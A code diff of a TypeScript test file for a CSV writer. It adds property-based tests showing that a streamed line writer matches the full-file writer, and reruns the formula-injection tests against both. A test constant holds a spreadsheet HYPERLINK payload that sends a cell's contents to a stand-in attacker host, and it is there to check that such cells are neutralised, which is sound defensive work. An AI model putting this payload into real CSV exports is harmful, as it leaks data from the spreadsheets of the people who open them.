@@ -1,12 +1,13 @@
 import { readdirSync, readFileSync, statSync } from "node:fs";
 import path from "node:path";
+import fc from "fast-check";
 import Papa from "papaparse";
 import { describe, expect, it } from "vitest";
 import { csvTemplateTable } from "../forms/formBuilder";
 import { snapshotCsvRows } from "../history/snapshotCsv";
 import { buildReportColumns } from "../reports/reportColumns";
 import { buildReportSheet, type ReportRow, reportCsv } from "../reports/reportExport";
-import { CSV_FORMULA_TRIGGERS, writeCsv } from "./writeCsv";
+import { CSV_FORMULA_TRIGGERS, type CsvCell, csvLine, writeCsv } from "./writeCsv";
 
 // Issue 21 §7: the report and snapshot CSVs wrote `=HYPERLINK("http://evil.example/?leak="&A2, …)`
 // from an asset name as a live formula.
@@ -14,7 +15,14 @@ import { CSV_FORMULA_TRIGGERS, writeCsv } from "./writeCsv";
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
 const parse = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
 
-describe("writeCsv: formula cells stay text", () => {
+/** The same file a line at a time (`csvLine`, the server's streamed report export). */
+const byLines = (header: readonly string[], rows: readonly (readonly CsvCell[])[]) =>
+  [header, ...rows].map((cells) => csvLine(cells)).join("\r\n");
+
+describe.each([
+  ["writeCsv", writeCsv],
+  ["csvLine", byLines],
+] as const)("%s: formula cells stay text", (_writer, writeCsv) => {
   it.each(CSV_FORMULA_TRIGGERS.map((c) => [JSON.stringify(c), c]))("a cell starting with %s gets a quote", (_, c) => {
     const [header, row] = parse(writeCsv([`${c}head`], [[`${c}1+1`]]));
     expect(header).toEqual([`'${c}head`]);
@@ -34,6 +42,37 @@ describe("writeCsv: formula cells stay text", () => {
   it("still quotes commas, quotes and line breaks", () => {
     const [, row] = parse(writeCsv(["A"], [['Paint, "Blue"\nLine 2']]));
     expect(row?.[0]).toBe('Paint, "Blue"\nLine 2');
+  });
+});
+
+describe("csvLine writes what writeCsv writes", () => {
+  const text = fc.string({
+    unit: fc.constantFrom("a", "Z", "1", " ", ",", '"', "'", "\n", "\r", "\t", "=", "+", "-", "@", "\uFEFF", "é", "€"),
+    maxLength: 8,
+  });
+  const cell = fc.oneof(
+    text,
+    fc.double(),
+    fc.integer(),
+    fc.boolean(),
+    fc.constant(null),
+    fc.constant(undefined),
+    fc.date({ noInvalidDate: false }),
+  );
+  it("for any cells (text with every character papaparse looks at, numbers, dates, empty)", () => {
+    fc.assert(
+      fc.property(
+        fc.integer({ min: 1, max: 5 }),
+        fc.array(fc.array(cell, { minLength: 5, maxLength: 5 }), { maxLength: 6 }),
+        (width, rows) => {
+          const header = Array.from({ length: width }, (_, i) => `h${i}`);
+          const sliced = rows.map((r) => r.slice(0, width));
+          expect(sliced.map((r) => csvLine(r)).join("\r\n")).toBe(writeCsv(header, sliced, false));
+          if (sliced.length > 0) expect(byLines(header, sliced)).toBe(writeCsv(header, sliced));
+        },
+      ),
+      { numRuns: 2000 },
+    );
   });
 });
 
